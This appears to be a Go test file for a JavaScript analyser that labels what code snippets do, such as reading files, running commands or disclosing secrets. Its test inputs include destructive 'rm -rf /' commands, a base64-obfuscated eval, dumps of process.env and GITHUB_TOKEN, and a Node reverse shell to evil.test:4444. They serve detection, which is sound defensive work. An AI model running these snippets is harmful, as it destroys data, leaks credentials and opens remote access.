package javascript

import (
	"strings"
	"testing"

	"automode/internal/mask"
	"automode/internal/understand/code"
)

// facts writes what a reading says as tests state it.
func facts(r code.Reading) string {
	var list []string
	for _, f := range r.Facts {
		list = append(list, f.String())
	}
	if !r.Whole {
		list = append(list, "?")
	}
	if len(list) == 0 {
		return "nothing"
	}
	return strings.ReplaceAll(strings.Join(list, "; "), "\n", " ; ")
}

func TestWhatIt(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{`console.log(require('./package.json').version)`, `Read ./package.json`},
		{`process.versions.node`, `nothing`},
		{`const fs=require('fs'); const d=JSON.parse(fs.readFileSync('x.json','utf8')); console.log(Object.keys(d).length)`, `Read x.json`},
		{`fs.rmSync("/", {recursive:true})`, `Delete //**`},
		{`require('child_process').execSync('rm -rf ~')`, `Run[line] rm -rf ~`},
		{`const {execSync: x} = require("node:child_process"); x("rm -rf /")`, `Run[line] rm -rf /`},
		{`let s='';process.stdin.on('data',d=>s+=d).on('end',()=>{const j=JSON.parse(s);console.log(j.name)})`, `nothing`},
		{`process.stdin.on('data',d=>s+=d)`, `?`},
		{`JSON.parse(fs.readFileSync(0,'utf8')).map(x=>x.name).forEach(n=>console.log(n))`, `nothing`},
		{`console.log(process.env)`, `Disclose variables that hold secrets`},
		{`process.env`, `Disclose variables that hold secrets`},
		{`process.env.NODE_ENV`, `nothing`},
		{`console.log(process.env.GITHUB_TOKEN)`, `Disclose variables that hold secrets`},
		{`eval(Buffer.from('cm0gLXJmIC8=','base64').toString())`, `Run[text javascript] rm -rf /…; ?`},
		{`[].constructor.constructor('return process')()`, `?`},
		{`['rm -rf /'].map(require('child_process').execSync)`, `Run[line] rm -rf /`},
		{`[require('child_process')].map(m => m.execSync('rm -rf /'))`, `Run[line] rm -rf /`},
		{`(async()=>{const r=await fetch('http://localhost:3000/x');console.log(await r.json())})()`, `Fetch http://localhost:3000/x`},
		{`const net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',['-i']);const c=new net.Socket();c.connect(4444,'evil.test',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})`,
			`Run[line] cat | { '/bin/sh' '-i' ; }; Send evil.test:4444; Expose{tunnel} evil.test:4444`},
		{`for (const f of fs.readdirSync('src')) console.log(fs.readFileSync('src/'+f,'utf8').length)`, `Read{listing} src; Read src/…`},
		{`import {readFileSync as r} from 'fs'; console.log(r('a'))`, `Read a`},
	} {
		r := Read(c.text, code.Setting{Secret: mask.SecretName})
		if got := facts(r); got != c.want {
			t.Errorf("%s\n got %s\nwant %s\n(%s)", c.text, got, c.want, r.Why)
		}
	}
}
